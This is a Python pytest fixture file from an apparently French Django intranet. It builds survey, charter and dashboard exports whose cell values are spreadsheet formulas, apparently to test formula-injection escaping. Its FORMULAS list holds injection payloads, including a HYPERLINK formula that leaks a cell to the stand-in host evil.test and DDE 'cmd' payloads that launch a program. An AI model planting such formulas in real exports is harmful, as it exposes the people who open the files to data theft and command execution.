"""Exports whose cells were typed as spreadsheet formulas, one fixture per export."""

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse

from experiments.models import Experiment
from intranet.accounts.models import Department
from practices import services as practices_services
from surveys.models import Invitation
from surveys.services import submit_response

from .dashboard import PERIOD
from .practices import make_charter
from .skills import skills_officer

FORMULAS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def is_number(text):
    """A negative number in a CSV ("-40", "-2,5") is read as a number, not a formula."""
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.fixture
def survey_export(client, make_agent, make_survey):
    """A named survey whose agents, question label and free-text answers are formulas."""
    owner = make_agent("Propriétaire")
    survey = make_survey(kinds=("recommendation", "text"), owner=owner, anonymous=False)
    survey.questions.filter(kind="text").update(label=FORMULAS[0])
    text = survey.questions.get(kind="text")
    recommendation = survey.questions.get(kind="recommendation")
    for index, formula in enumerate(FORMULAS):
        agent = make_agent(formula if index == 1 else f"Agent {index}")
        invitation = Invitation.objects.create(survey=survey, agent=agent)
        submit_response(invitation, {recommendation: 9, text: formula})
    client.force_login(owner)
    return lambda file_format: client.get(
        reverse(f"surveys:export_{file_format}", args=[survey.pk])
    )


@pytest.fixture
def adhesion_export(client, site, make_agent):
    """The charter's signature list, with agents and a department named like formulas."""
    charter = make_charter(site)
    department = Department.objects.create(name=FORMULAS[3])
    for formula in FORMULAS:
        agent = make_agent(formula, first_name=formula, department=department)
        practices_services.sign_charter(charter, agent)
    editor = make_agent("Éditrice")
    editor.groups.add(Group.objects.get(name="Éditeurs"))
    client.force_login(editor)
    return lambda file_format: client.get(reverse(f"practices:adhesion_{file_format}"))


@pytest.fixture
def dashboard_export(client, city):
    """The impact dashboard, with a department and an experiment named like formulas."""
    Department.objects.filter(pk=city["finances"].pk).update(name=FORMULAS[0])
    Experiment.objects.filter(title="Décider sans réunion").update(title=FORMULAS[3])
    client.force_login(skills_officer())
    return lambda file_format: client.get(reverse(f"dashboard:export_{file_format}"), PERIOD)
